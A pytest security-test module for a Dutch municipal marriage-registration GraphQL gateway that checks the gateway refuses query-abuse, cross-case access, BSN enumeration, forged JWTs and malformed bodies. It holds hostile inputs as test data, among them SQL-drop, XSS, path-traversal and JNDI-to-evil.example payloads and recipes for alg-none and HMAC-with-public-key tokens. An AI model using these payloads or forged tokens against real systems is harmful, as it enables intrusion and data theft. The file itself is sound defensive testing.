"""The security issue's list of attacks, each tried against the real gateway in production mode.

Most attacks have a focused test elsewhere (test_security_graphql, test_security_http,
test_identity, test_proces_autorisatie, test_tekstinvoer); here they run again, compactly and
table-driven, against one gateway started as production runs it, with tokens from an issuer
whose key the tests hold. Every response is checked by `assert_veilig`: no trace, no upstream
address, no BSN the caller did not send.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import logging
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from asgi_lifespan import LifespanManager
from gateway_support import demo_settings
from graphql import (
    GraphQLEnumType,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLScalarType,
    Undefined,
    build_schema,
    get_introspection_query,
    get_named_type,
)
from joserfc import jwt
from joserfc.jwk import RSAKey
from proces_support import ALLEENSTAAND, START, verklaring
from security_graphql_support import PRODUCTION_IDENTITY
from security_support import (
    UITGEVER,
    ProductionGateway,
    assert_veilig,
    production_gateway,
    token,
)

from trouwgraph.domain.bsn import is_geldig_bsn
from trouwgraph.schema.schema import schema
from trouwgraph.server.app import create_app
from trouwgraph.server.startup import StartupRefused

MODULE = pytest.mark.asyncio(loop_scope="module")
PARTNER1, VREEMDE = ALLEENSTAAND[0], ALLEENSTAAND[5]
SDL = build_schema(schema.as_str())


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gateway() -> AsyncIterator[ProductionGateway]:
    """One production gateway for the module; each test uses people of its own."""
    async with production_gateway() as running:
        yield running


async def post(
    gateway: ProductionGateway,
    body: Any,
    *,
    token: str | None = None,
    gestuurd: tuple[str, ...] = (),
    **kwargs: Any,
) -> httpx.Response:
    """POST `body` as JSON to /graphql; the response, checked by `assert_veilig`."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    response = await gateway.client.post("/graphql", json=body, headers=headers, **kwargs)
    assert_veilig(response, gestuurd)
    return response


def codes(response: httpx.Response) -> set[str]:
    """The codes of the errors in a GraphQL response."""
    return {error["extensions"]["code"] for error in response.json().get("errors", [])}


# --- operations the limits refuse -----------------------------------------------------------


def _genest(niveaus: int) -> str:
    inner = "naam { voornamen }"
    for _ in range(niveaus):
        inner = f"partners {{ persoon {{ {inner} }} }}"
    return f"{{ ik {{ {inner} }} }}"


_VIER_ALIASSEN = "fragment N on Persoon { " + " ".join(
    f"n{i}: naam {{ voornamen }}" for i in range(4)
)
_WAAIER = "\n".join(f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}" for i in range(25))

MISBRUIK: dict[str, tuple[str, frozenset[str]]] = {
    "deep-nesting": (_genest(8), frozenset({"GRAPHQL_TE_DIEP"})),
    "alias-overloading": (
        "{ " + " ".join(f"a{i}: ik {{ burgerservicenummer }}" for i in range(50)) + " }",
        frozenset({"GRAPHQL_TE_VEEL_ALIASSEN"}),
    ),
    "aliases-through-fragments": (
        f"{{ ik {{ ...N ...N ... on Persoon {{ ...N ...N }} }} }} {_VIER_ALIASSEN} }}",
        frozenset({"GRAPHQL_TE_VEEL_ALIASSEN"}),
    ),
    "exponential-fragment-fan-out": (
        f"query {{ ...F0 }}\n{_WAAIER}\nfragment F25 on Query {{ x: __typename }}",
        frozenset({"GRAPHQL_TE_VEEL_ALIASSEN"}),
    ),
    "duplicated-fields": (
        "{ " + "ceremonietypen { code } " * 500 + "}",
        frozenset({"GRAPHQL_TE_DUUR", "GRAPHQL_TE_VEEL_TOKENS"}),
    ),
    "duplicated-fields-in-a-list": (
        "{ ik { kinderen { naam { " + "voornamen " * 600 + "} } } }",
        frozenset({"GRAPHQL_TE_DUUR"}),
    ),
    "too-many-tokens": (
        "{ ik { " + "burgerservicenummer " * 2100 + "} }",
        frozenset({"GRAPHQL_TE_VEEL_TOKENS"}),
    ),
    "directive-overloading": (
        "{ ik { " + "naam @include(if: true) { voornamen } " * 100 + "} }",
        frozenset({"GRAPHQL_TE_VEEL_DIRECTIVES"}),
    ),
    "circular-fragments": (
        "{ ik { ...A } } fragment A on Persoon { partners { persoon { ...B } } } "
        "fragment B on Persoon { ...A }",
        frozenset({"GRAPHQL_ONGELDIG"}),
    ),
    "introspection-schema": (
        "{ __schema { queryType { name } } }",
        frozenset({"GRAPHQL_INTROSPECTIE_UIT"}),
    ),
    "introspection-type": (
        '{ __type(name: "Persoon") { fields { name } } }',
        frozenset({"GRAPHQL_INTROSPECTIE_UIT"}),
    ),
    "introspection-graphiql": (get_introspection_query(), frozenset({"GRAPHQL_INTROSPECTIE_UIT"})),
}


@MODULE
@pytest.mark.parametrize("aanval", list(MISBRUIK), ids=list(MISBRUIK))
async def test_refuses_abusive_operations_before_running_them(
    gateway: ProductionGateway, aanval: str
) -> None:
    query, verwacht = MISBRUIK[aanval]
    brp_voor = len(gateway.calls("brp"))
    response = await post(gateway, {"query": query}, token=token("medewerker"))
    assert response.json().get("data") is None
    gevonden = codes(response)
    assert gevonden & verwacht, gevonden
    assert all(code.startswith("GRAPHQL_") for code in gevonden), gevonden
    assert len(gateway.calls("brp")) == brp_voor


MISSPELD = [
    pytest.param("{ persoo { naam } }", id="field"),
    pytest.param(
        '{ persoon(burgerservicenumer: "999993653") { naam { voornamen } } }', id="argument"
    ),
    pytest.param("{ ik { ... on Persoo { naam { voornamen } } } }", id="type-condition"),
    pytest.param(
        '{ toets(partner1: "999993653", partner2: "999990226", datum: "2027-03-26", '
        "soort: HUWELIJKK) { regel } }",
        id="enum-value",
    ),
    pytest.param(
        'mutation { kiesLocatie(id: "x", versie: 1, locatie: {locatiId: "g"}) { __typename } }',
        id="input-field",
    ),
]


@MODULE
@pytest.mark.parametrize("query", MISSPELD)
async def test_gives_no_did_you_mean_suggestions(gateway: ProductionGateway, query: str) -> None:
    response = await post(gateway, {"query": query}, token=token("medewerker"))
    assert codes(response) == {"GRAPHQL_ONGELDIG"}
    assert "Did you mean" not in response.text


# --- HTTP: batching, CSRF, mutations over GET --------------------------------------------------


@MODULE
async def test_refuses_a_batch(gateway: ProductionGateway) -> None:
    response = await post(gateway, [{"query": "{ __typename }"}] * 2, token=token("medewerker"))
    assert response.status_code == 400
    assert response.json()["code"] == "GRAPHQL_TE_VEEL_OPERATIES"


@MODULE
@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"],
)
async def test_refuses_the_content_types_of_cross_site_forms(
    gateway: ProductionGateway, content_type: str
) -> None:
    response = await gateway.client.post(
        "/graphql",
        content=json.dumps({"query": "{ ceremonietypen { code } }"}),
        headers={"content-type": content_type, "Authorization": f"Bearer {token('medewerker')}"},
    )
    assert_veilig(response)
    assert response.status_code == 415
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["code"] == "GRAPHQL_MEDIATYPE_ONBEKEND"


async def reserveer(gateway: ProductionGateway, bsn: str, locatie: str) -> dict[str, Any]:
    """A fresh provisional reservation of `bsn` (as partner 1) at `locatie`: id and versie."""
    query = (
        'mutation { reserveer(invoer: {soort: HUWELIJK, ceremonietype: "UITGEBREID", '
        f'start: "{START}", locatie: {{locatieId: "{locatie}"}}}}) {{ __typename '
        "... on HuwelijkGewijzigd { huwelijk { id versie status } } } }"
    )
    response = await post(gateway, {"query": query}, token=token("burger", bsn), gestuurd=(bsn,))
    resultaat = response.json()["data"]["reserveer"]
    assert resultaat["__typename"] == "HuwelijkGewijzigd", resultaat
    huwelijk: dict[str, Any] = resultaat["huwelijk"]
    return huwelijk


async def stand(gateway: ProductionGateway, huwelijk_id: str) -> dict[str, Any]:
    """Versie and status of a case as a medewerker reads them."""
    response = await post(
        gateway,
        {
            "query": "query($id: ID!) { huwelijk(id: $id) { versie status } }",
            "variables": {"id": huwelijk_id},
        },
        token=token("medewerker"),
    )
    gelezen: dict[str, Any] = response.json()["data"]["huwelijk"]
    return gelezen


@MODULE
async def test_refuses_a_mutation_over_get_and_changes_nothing(
    gateway: ProductionGateway,
) -> None:
    huwelijk = await reserveer(gateway, ALLEENSTAAND[1], "gemeentehuis-raadzaal")
    mutatie = f'mutation {{ annuleer(id: "{huwelijk["id"]}", versie: 1) {{ __typename }} }}'
    response = await gateway.client.get(
        "/graphql",
        params={"query": mutatie},
        headers={"Authorization": f"Bearer {token('burger', ALLEENSTAAND[1])}"},
    )
    assert_veilig(response, (ALLEENSTAAND[1],))
    assert response.status_code in {400, 405}
    assert await stand(gateway, huwelijk["id"]) == {"versie": 1, "status": "VOORLOPIG"}


# --- another person's case ---------------------------------------------------------------------

ANDER_MOMENT = "2027-03-26T10:00:00+01:00"
# Arguments that the process would accept from partner 1, per case mutation.
MUTATIES: dict[str, str] = {
    "nodigPartnerUit": f'burgerservicenummer: "{ALLEENSTAAND[3]}"',
    "stemIn": "",
    "weigerInstemming": "",
    "voegGetuigeToe": "getuige: {gemeentelijk: true}",
    "verwijderGetuige": "volgnummer: 1",
    "kiesAmbtenaar": 'ambtenaar: {ambtenaarId: "babs-anna-conijn"}',
    "kiesLocatie": 'locatie: {locatieId: "gemeentehuis-raadzaal"}',
    "wijzigMoment": f'start: "{ANDER_MOMENT}"',
    "legVerklaringAf": verklaring(),
    "registreerVerklaring": f"partner: PARTNER1, {verklaring()}",
    "doeMelding": "",
    "kiesNaamgebruik": "partner: PARTNER1, naamgebruik: V",
    "beoordeelMelding": "goedgekeurd: true",
    "registreerBetaling": 'bedragInCenten: 100, referentie: "r"',
    "startBetaling": "",
    "bevestig": "",
    "annuleer": 'reden: "Wij zien ervan af"',
    "markeerVoltrokken": "",
    "herplaatsBerichten": "",
}
HUWELIJK_ALLES = """
  id soort status versie verlooptOp aangemaaktOp
  partners { rol burgerservicenummer isIk instemming { status } naamgebruik
    persoon { burgerservicenummer naam { volledigeNaam } } }
  getuigen { volgnummer gemeentelijk burgerservicenummer }
  ambtenaar { keuze ambtenaar { id naam } eigenBabs { naam } }
  locatie { soort omschrijving locatie { id } adres { straat } }
  ceremonie { code } moment { start eind } extras { code }
  prijs { totaal { centen } } melding { status reden }
  toetsing { regel uitkomst reden betreft gegevens }
  betaling { status referentie } historie { door gebeurtenis reden } mogelijkeActies
"""


def test_the_stranger_walk_covers_every_case_mutation() -> None:
    assert SDL.mutation_type is not None
    assert set(SDL.mutation_type.fields) - {"reserveer"} == set(MUTATIES)


@MODULE
async def test_a_stranger_can_neither_read_nor_change_anothers_case(
    gateway: ProductionGateway,
) -> None:
    huwelijk = await reserveer(gateway, PARTNER1, "gemeentehuis")
    vreemde = token("burger", VREEMDE)

    async def muteer(veld: str, huwelijk_id: str) -> dict[str, Any]:
        query = (
            f'mutation {{ {veld}(id: "{huwelijk_id}", versie: 1 {MUTATIES[veld]}) '
            "{ __typename ... on Probleem { code melding } } }"
        )
        response = await post(gateway, {"query": query}, token=vreemde, gestuurd=(VREEMDE,))
        assert "errors" not in response.json(), response.text
        uitkomst: dict[str, Any] = response.json()["data"][veld]
        return uitkomst

    for veld in MUTATIES:
        uitkomst = await muteer(veld, huwelijk["id"])
        # Exactly the answer for an id that does not exist: no existence oracle.
        assert uitkomst == await muteer(veld, "0" * 32), veld
        assert (uitkomst["__typename"], uitkomst["code"]) == ("NietGevonden", "NIET_GEVONDEN")
    assert await stand(gateway, huwelijk["id"]) == {"versie": 1, "status": "VOORLOPIG"}

    async def lees(huwelijk_id: str) -> dict[str, Any]:
        response = await post(
            gateway,
            {"query": f'{{ huwelijk(id: "{huwelijk_id}") {{ {HUWELIJK_ALLES} }} }}'},
            token=vreemde,
            gestuurd=(VREEMDE,),
        )
        antwoord: dict[str, Any] = response.json()
        return antwoord

    gelezen = await lees(huwelijk["id"])
    assert gelezen["data"] is None
    assert codes_van(gelezen) == ["NIET_GEVONDEN"]
    assert gelezen["errors"][0]["message"] == (await lees("0" * 32))["errors"][0]["message"]
    eigen = await post(
        gateway, {"query": "{ mijnHuwelijken { id } }"}, token=vreemde, gestuurd=(VREEMDE,)
    )
    assert eigen.json() == {"data": {"mijnHuwelijken": []}}
    lijst = await post(
        gateway, {"query": "{ huwelijken { totalCount } }"}, token=vreemde, gestuurd=(VREEMDE,)
    )
    assert codes(lijst) == {"NIET_TOEGESTAAN"}


def codes_van(antwoord: dict[str, Any]) -> list[str]:
    """The codes of the errors of a decoded GraphQL answer, in order."""
    return [error["extensions"]["code"] for error in antwoord.get("errors", [])]


# --- BSN enumeration and invalid BSNs ----------------------------------------------------------


def geldige_bsns(aantal: int, vanaf: int = 100_000_000) -> list[str]:
    """`aantal` 9-digit numbers that pass the 11-proef (none of them a demo person's)."""
    gevonden: list[str] = []
    kandidaat = vanaf
    while len(gevonden) < aantal:
        if is_geldig_bsn(str(kandidaat)):
            gevonden.append(str(kandidaat))
        kandidaat += 7
    return gevonden


PERSOON = "query($b: BSN!) { persoon(burgerservicenummer: $b) { naam { volledigeNaam } } }"


@MODULE
async def test_a_burger_cannot_enumerate_bsns(gateway: ProductionGateway) -> None:
    burger = token("burger", ALLEENSTAAND[2])
    brp_voor = len(gateway.calls("brp"))
    for bsn in [*geldige_bsns(48), ALLEENSTAAND[3], ALLEENSTAAND[4]]:
        response = await post(gateway, {"query": PERSOON, "variables": {"b": bsn}}, token=burger)
        assert response.json()["data"] == {"persoon": None}
        assert codes(response) == {"NIET_TOEGESTAAN"}
    assert len(gateway.calls("brp")) == brp_voor


async def test_a_medewerker_enumerating_bsns_is_rate_limited() -> None:
    async with production_gateway(rate_limit_per_user=5) as gateway:
        medewerker = token("medewerker")
        statussen = []
        for bsn in geldige_bsns(8):
            response = await post(
                gateway, {"query": PERSOON, "variables": {"b": bsn}}, token=medewerker
            )
            statussen.append(response.status_code)
        assert statussen == [200] * 5 + [429] * 3
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["code"] == "TE_VEEL_VERZOEKEN"
        assert len(gateway.calls("brp")) == 5


# --- every BSN and text argument of the schema -------------------------------------------------

WALK_START = "2027-04-02T14:00:00+02:00"  # away from the slots the tests above reserve
VOORBEELD = {
    "String": '"UITGEBREID"',
    "ID": '"gemeentehuis"',
    "Int": "1",
    "Float": "1.0",
    "Boolean": "true",
    "BSN": f'"{ALLEENSTAAND[4]}"',
    "Date": '"2027-04-02"',
    "DateTime": f'"{WALK_START}"',
}


@dataclass(frozen=True)
class Invoerplek:
    """A place in a root field's arguments where a value of one scalar type goes."""

    operatie: str
    veld: str
    pad: tuple[str, ...]  # the argument, then input-object fields

    @property
    def naam(self) -> str:
        """E.g. reserveer.invoer.locatie.omschrijving."""
        return ".".join((self.veld, *self.pad))

    def document(self, scalar: str, literal: str | None = None) -> str:
        """The operation with `$v: scalar!` (or `literal`) at this place, valid elsewhere."""
        roots = {"query": SDL.query_type, "mutation": SDL.mutation_type}
        root = roots[self.operatie]
        assert root is not None
        veld = root.fields[self.veld]
        argumenten = ", ".join(
            f"{naam}: {_waarde(arg.type, self.pad[1:] if naam == self.pad[0] else None)}"
            for naam, arg in veld.args.items()
            if naam == self.pad[0] or (_verplicht(arg.type) and arg.default_value is Undefined)
        )
        composite = not isinstance(get_named_type(veld.type), GraphQLScalarType | GraphQLEnumType)
        selectie = "{ __typename }" if composite else ""
        if literal is not None:
            return (
                f"{self.operatie} {{ {self.veld}({argumenten.replace('$v', literal)}) {selectie} }}"
            )
        return f"{self.operatie}($v: {scalar}!) {{ {self.veld}({argumenten}) {selectie} }}"


def _verplicht(type_: GraphQLInputType) -> bool:
    return isinstance(type_, GraphQLNonNull)


def _waarde(type_: GraphQLInputType, pad: tuple[str, ...] | None) -> str:
    """A GraphQL literal of `type_`; `$v` at `pad` (None: no variable below here)."""
    kaal = type_.of_type if isinstance(type_, GraphQLNonNull) else type_
    if isinstance(kaal, GraphQLList):
        return f"[{_waarde(kaal.of_type, pad)}]"
    if pad == ():
        return "$v"
    if isinstance(kaal, GraphQLEnumType):
        return str(next(iter(kaal.values)))
    if isinstance(kaal, GraphQLInputObjectType):
        if kaal.is_one_of:
            namen = [pad[0] if pad else next(iter(kaal.fields))]
        else:
            namen = [
                naam
                for naam, veld in kaal.fields.items()
                if (pad and naam == pad[0])
                or (_verplicht(veld.type) and veld.default_value is Undefined)
            ]
        delen = (f"{naam}: {_waarde(kaal.fields[naam].type, _rest(pad, naam))}" for naam in namen)
        return "{" + ", ".join(delen) + "}"
    assert isinstance(kaal, GraphQLScalarType)
    return VOORBEELD[kaal.name]


def _rest(pad: tuple[str, ...] | None, naam: str) -> tuple[str, ...] | None:
    """The path below input field `naam`, or None when the variable is not below it."""
    return pad[1:] if pad and naam == pad[0] else None


def invoerplekken(*scalars: str) -> list[Invoerplek]:
    """Every place in the schema's root-field arguments where one of `scalars` goes."""
    plekken: list[Invoerplek] = []
    for operatie, root in (("query", SDL.query_type), ("mutation", SDL.mutation_type)):
        assert root is not None
        for veld, definitie in root.fields.items():
            for naam, argument in definitie.args.items():
                plekken.extend(
                    Invoerplek(operatie, veld, (naam, *pad))
                    for pad in _paden(argument.type, set(scalars), 0)
                )
    return plekken


def _paden(type_: GraphQLInputType, scalars: set[str], diepte: int) -> Iterator[tuple[str, ...]]:
    kaal = get_named_type(type_)
    if isinstance(kaal, GraphQLScalarType) and kaal.name in scalars:
        yield ()
    elif isinstance(kaal, GraphQLInputObjectType) and diepte < 5:
        for naam, veld in kaal.fields.items():
            for pad in _paden(veld.type, scalars, diepte + 1):
                yield (naam, *pad)


BSN_PLEKKEN = invoerplekken("BSN")
TEKST_PLEKKEN = invoerplekken("String", "ID")
ONGELDIGE_BSNS = {
    "too-short": "99999365",
    "too-long": "9999936530",
    "letters": "99999365a",
    "11-proef": "123456789",
    "fullwidth-digits": "９９９９９３６５３",
    "arabic-indic-digits": "٩٩٩٩٩٣٦٥٣",
    "leading-space": " 999993653",
    "trailing-newline": "999993653\n",
    "inner-spaces": "999 993 653",
    "empty": "",
}


def test_the_bsn_walk_finds_every_bsn_argument_the_issue_names() -> None:
    assert {plek.naam for plek in BSN_PLEKKEN} >= {
        "persoon.burgerservicenummer",
        "toets.partner1",
        "toets.partner2",
        "nodigPartnerUit.burgerservicenummer",
        "voegGetuigeToe.getuige.burgerservicenummer",
        "reserveer.invoer.partner1",
        "reserveer.invoer.ambtenaar.eigenBabs.burgerservicenummer",
        "kiesAmbtenaar.ambtenaar.eigenBabs.burgerservicenummer",
    }


def echoed(waarde: str, tekst: str) -> bool:
    """Whether `waarde` (raw or JSON-escaped) appears in `tekst`."""
    return bool(waarde.strip()) and (waarde in tekst or json.dumps(waarde)[1:-1] in tekst)


@MODULE
@pytest.mark.parametrize("plek", BSN_PLEKKEN, ids=[plek.naam for plek in BSN_PLEKKEN])
async def test_refuses_invalid_bsns_in_every_bsn_argument_without_echoing_them(
    gateway: ProductionGateway, plek: Invoerplek
) -> None:
    medewerker = token("medewerker")
    for soort, bsn in ONGELDIGE_BSNS.items():
        for body in (
            {"query": plek.document("BSN"), "variables": {"v": bsn}},
            {"query": plek.document("BSN", literal=json.dumps(bsn))},
        ):
            response = await post(gateway, body, token=medewerker)
            assert response.json()["data"] is None, (soort, response.text)
            assert codes(response) == {"ONGELDIG_BSN"}, (soort, response.text)
            assert not echoed(bsn, response.text), soort


def tekstplek(plek: Invoerplek) -> Any:
    """`plek` as a test parameter."""
    return pytest.param(plek, id=plek.naam)


ONGELDIGE_TEKSTEN = {
    "too-long": "a" * 1001,
    "nul": "x\x00y",
    "ansi-escape": "\x1b[31mrood",
    "bidi-override": "abc\u202edef",
    "carriage-return-header": "a\r\nSet-Cookie: x=1",
    "zero-width": "a\u200bb",
}
INJECTIES = {
    "sql": "' OR 1=1 --",
    "sql-drop": "x'); DROP TABLE huwelijken; --",
    "html": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}#{7*7}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    "graphql": '"} } mutation { annuleer(id: "x", versie: 1) { __typename } }',
    "nosql": '{"$gt": ""}',
    "format": "%s%s%n%x {0.__class__}",
    "unicode": "Zoë 💍 ﷽ 𝔘",
}


@MODULE
@pytest.mark.parametrize("plek", [tekstplek(plek) for plek in TEKST_PLEKKEN])
async def test_every_text_argument_refuses_control_characters_and_treats_injection_as_data(
    gateway: ProductionGateway, plek: Invoerplek
) -> None:
    medewerker = token("medewerker")
    scalar = get_named_type(plek_type(plek)).name
    for soort, tekst in ONGELDIGE_TEKSTEN.items():
        body = {"query": plek.document(scalar), "variables": {"v": tekst}}
        response = await post(gateway, body, token=medewerker)
        assert response.json()["data"] is None, (soort, response.text)
        assert codes(response) == {"ONGELDIGE_TEKST"}, (soort, response.text)
        assert plek.veld in response.json()["errors"][0]["message"]
        assert not echoed(tekst, response.text), soort
    for soort, tekst in INJECTIES.items():
        body = {"query": plek.document(scalar), "variables": {"v": tekst}}
        response = await post(gateway, body, token=medewerker)
        assert response.status_code == 200, (soort, response.text)
        assert "INTERNE_FOUT" not in codes(response), (soort, response.text)
        for fout in response.json().get("errors", []):
            assert not echoed(tekst, json.dumps(fout)), (soort, fout)


def plek_type(plek: Invoerplek) -> GraphQLInputType:
    """The declared type at `plek`."""
    roots = {"query": SDL.query_type, "mutation": SDL.mutation_type}
    root = roots[plek.operatie]
    assert root is not None
    type_: GraphQLInputType = root.fields[plek.veld].args[plek.pad[0]].type
    for naam in plek.pad[1:]:
        kaal = get_named_type(type_)
        assert isinstance(kaal, GraphQLInputObjectType)
        type_ = kaal.fields[naam].type
    return type_


# --- tokens ------------------------------------------------------------------------------------


def _b64(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def _vervalst() -> str:
    header, payload, handtekening = token("burger", ALLEENSTAAND[0]).split(".")
    midden = len(handtekening) // 2
    ander = "A" if handtekening[midden] != "A" else "B"
    return f"{header}.{payload}.{handtekening[:midden]}{ander}{handtekening[midden + 1 :]}"


def _andere_claims() -> str:
    header, _, handtekening = token("burger", ALLEENSTAAND[0]).split(".")
    return f"{header}.{_b64(UITGEVER.claims('medewerker'))}.{handtekening}"


def _hmac_met_publieke_sleutel() -> str:
    invoer = (
        f"{_b64({'alg': 'HS256', 'kid': UITGEVER.key.kid})}.{_b64(UITGEVER.claims('medewerker'))}"
    )
    mac = hmac.new(UITGEVER.key.as_pem(private=False), invoer.encode(), hashlib.sha256)
    return f"{invoer}.{base64.urlsafe_b64encode(mac.digest()).rstrip(b'=').decode()}"


def _andere_sleutel(kid: str) -> str:
    sleutel = RSAKey.generate_key(2048, parameters={"kid": kid})
    return jwt.encode({"alg": "RS256", "kid": kid}, UITGEVER.claims("medewerker"), sleutel)


ONGELDIGE_TOKENS: dict[str, Callable[[], str]] = {
    "signature-altered": _vervalst,
    "claims-altered": _andere_claims,
    "expired": lambda: token("medewerker", exp=int(time.time()) - 3600, iat=1, nbf=1),
    "not-yet-valid": lambda: token("medewerker", nbf=int(time.time()) + 3600),
    "wrong-issuer": lambda: token("medewerker", iss="https://evil.example"),
    "wrong-audience": lambda: token("medewerker", aud="een-ander"),
    "no-expiry": lambda: token("medewerker", exp=None),
    "unknown-role": lambda: token("beheerder"),
    "burger-with-invalid-bsn": lambda: token("burger", "123456789"),
    "alg-none": lambda: (
        f"{_b64({'alg': 'none', 'kid': UITGEVER.key.kid})}.{_b64(UITGEVER.claims('medewerker'))}."
    ),
    "hmac-with-the-public-key": _hmac_met_publieke_sleutel,
    "unknown-kid": lambda: _andere_sleutel("onbekend"),
    "other-key-same-kid": lambda: _andere_sleutel(str(UITGEVER.key.kid)),
    "garbage": lambda: "dit-is-geen-token",
}


@MODULE
@pytest.mark.parametrize("soort", list(ONGELDIGE_TOKENS), ids=list(ONGELDIGE_TOKENS))
async def test_refuses_untrustworthy_tokens_with_401(
    gateway: ProductionGateway, soort: str
) -> None:
    response = await post(
        gateway, {"query": "{ ik { burgerservicenummer } }"}, token=ONGELDIGE_TOKENS[soort]()
    )
    assert response.status_code == 401, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers["www-authenticate"].startswith("Bearer")
    assert response.json()["code"] == "NIET_GEAUTHENTICEERD"


@MODULE
async def test_accepts_a_token_of_the_issuer_and_refuses_another_scheme(
    gateway: ProductionGateway,
) -> None:
    bsn = ALLEENSTAAND[0]
    geldig = await post(
        gateway,
        {"query": "{ ik { burgerservicenummer } }"},
        token=token("burger", bsn),
        gestuurd=(bsn,),
    )
    assert geldig.json() == {"data": {"ik": {"burgerservicenummer": bsn}}}
    basic = await gateway.client.post(
        "/graphql",
        json={"query": "{ ik { burgerservicenummer } }"},
        headers={"Authorization": "Basic eDp5"},
    )
    assert_veilig(basic)
    assert (basic.status_code, basic.json()["code"]) == (401, "NIET_GEAUTHENTICEERD")


# --- serve runs no demo part (issue 9, item 1) -------------------------------------------------


@MODULE
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/registries/9999/brp/personen"),
        ("GET", "/registries/9999/betalingen/checkout/tr_x"),
        ("POST", "/registries/9999/betalingen/v2/payments"),
        ("POST", "/demo/token"),
        ("GET", "/demo/jwks.json"),
    ],
)
async def test_serves_no_embedded_registry_and_no_demo_issuer_on_its_port(
    gateway: ProductionGateway, method: str, path: str
) -> None:
    response = await gateway.client.request(
        method, path, json={"type": "RaadpleegMetBurgerservicenummer"}
    )
    assert_veilig(response)
    assert response.status_code == 404


def test_refuses_a_municipality_that_leaves_a_registry_embedded(tmp_path: Path) -> None:
    settings = demo_settings(
        tmp_path, **{**PRODUCTION_IDENTITY, "allow_embedded_registries": False}
    )
    with pytest.raises(StartupRefused, match=r"9999 \(Demodam\) leaves registers\.brp, "):
        create_app(settings)


async def test_allowed_embedded_registries_listen_on_a_loopback_port_of_their_own(
    tmp_path: Path,
) -> None:
    settings = demo_settings(
        tmp_path, **PRODUCTION_IDENTITY, logboek_file=tmp_path / "logboek.jsonl"
    )
    app = create_app(settings)
    async with (
        LifespanManager(app) as manager,
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=manager.app), base_url="http://gateway"
        ) as gateway,
        httpx.AsyncClient(trust_env=False) as network,
    ):
        url = httpx.URL(app.state.embedded_registries_url)
        assert url.host == "127.0.0.1" and url.port
        brp = await network.post(
            f"{url}/9999/brp/personen",
            json={"type": "RaadpleegMetBurgerservicenummer", "burgerservicenummer": ["x"]},
        )
        assert brp.status_code == 400  # the embedded BRP answers there, and only there
        assert (await gateway.post("/registries/9999/brp/personen", json={})).status_code == 404
        publiek = await gateway.post("/graphql", json={"query": "{ ceremonietypen { code } }"})
        assert publiek.status_code == 200 and publiek.json()["data"]["ceremonietypen"]


# --- no BSN in any log line or span, in any form (issue 9, item 4) -----------------------------


@MODULE
async def test_a_bsn_sent_url_encoded_in_a_get_query_is_masked_in_the_access_log(
    gateway: ProductionGateway, caplog: pytest.LogCaptureFixture
) -> None:
    bsn = ALLEENSTAAND[3]
    caplog.set_level(logging.INFO, logger="uvicorn.access")
    response = await gateway.client.get(
        "/graphql",
        params={"query": f'{{ persoon(burgerservicenummer: "{bsn}") {{ geslacht }} }}'},
        headers={"Authorization": f"Bearer {token('medewerker')}"},
    )
    assert_veilig(response, bsns=False)
    assert f"%22{bsn}%22" in str(response.request.url)  # as a browser sends it
    (regel,) = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
    assert "<bsn>" in regel and bsn not in regel


# --- malformed bodies: 400 with a code, never 500 (issue 9, item 6) ----------------------------

MALFORMED: dict[str, bytes] = {
    "null": b"null",
    "number": b"42",
    "string": b'"{ __typename }"',
    "true": b"true",
    "empty-array": b"[]",
    "array-of-numbers": b"[1]",
    "empty-body": b"",
    "truncated": b'{"query": "{ __typename }"',
    "invalid-utf-8": b'{"query": "{ __typename \xff\xfe }"}',
    "latin-1": '{"query": "{ ceremonietypen { naam } }", "x": "Zoë"}'.encode("latin-1"),
    "nested-too-deep": b"[" * 50_000 + b"]" * 50_000,
    "query-not-text": b'{"query": 1}',
    "variables-not-an-object": b'{"query": "{ __typename }", "variables": [1]}',
    "operation-name-not-text": b'{"query": "{ __typename }", "operationName": {}}',
    "extensions-not-an-object": b'{"query": "{ __typename }", "extensions": "x"}',
}


@MODULE
@pytest.mark.parametrize("soort", list(MALFORMED), ids=list(MALFORMED))
async def test_a_malformed_body_gets_400_with_a_code_and_the_next_request_works(
    gateway: ProductionGateway, soort: str
) -> None:
    response = await gateway.client.post(
        "/graphql",
        content=MALFORMED[soort],
        headers={"content-type": "application/json"},
    )
    assert_veilig(response, bsns=False)
    assert (response.status_code, response.headers["content-type"]) == (
        400,
        "application/problem+json",
    ), response.text
    assert response.json()["code"] == "GRAPHQL_VERZOEK_ONGELDIG"
    volgende = await post(gateway, {"query": "{ ceremonietypen { code } }"})
    assert volgende.json()["data"]["ceremonietypen"]


async def test_a_refused_cors_preflight_gets_problem_json_with_a_code() -> None:
    async with production_gateway(cors_origins=("https://trouwen.example-gemeente.nl",)) as gw:
        response = await gw.client.options(
            "/graphql",
            headers={
                "Origin": "https://evil.example",
                "Access-Control-Request-Method": "POST",
            },
        )
    assert (response.status_code, response.headers["content-type"]) == (
        400,
        "application/problem+json",
    )
    assert response.json()["code"] == "CORS_GEWEIGERD"


# --- an upstream's 4xx text never reaches the client (issue 9, item 7) -------------------------

GEHEIM = "sk_live_geheim-van-het-register"
INTERN = "http://brp-intern.gemeente.local:8443/haalcentraal"


def _lekkende_brp(request: httpx.Request) -> httpx.Response:
    """A BRP answering 400 with internal addresses and secrets in every text it has."""
    return httpx.Response(
        400,
        json={
            "type": f"{INTERN}/problems/400",
            "title": f"Ongeldig verzoek, zie {INTERN} (key {GEHEIM})",
            "status": 400,
            "detail": f"backend {INTERN} zegt nee",
            "code": GEHEIM,
            "instance": f"{INTERN}/personen",
            "invalidParams": [
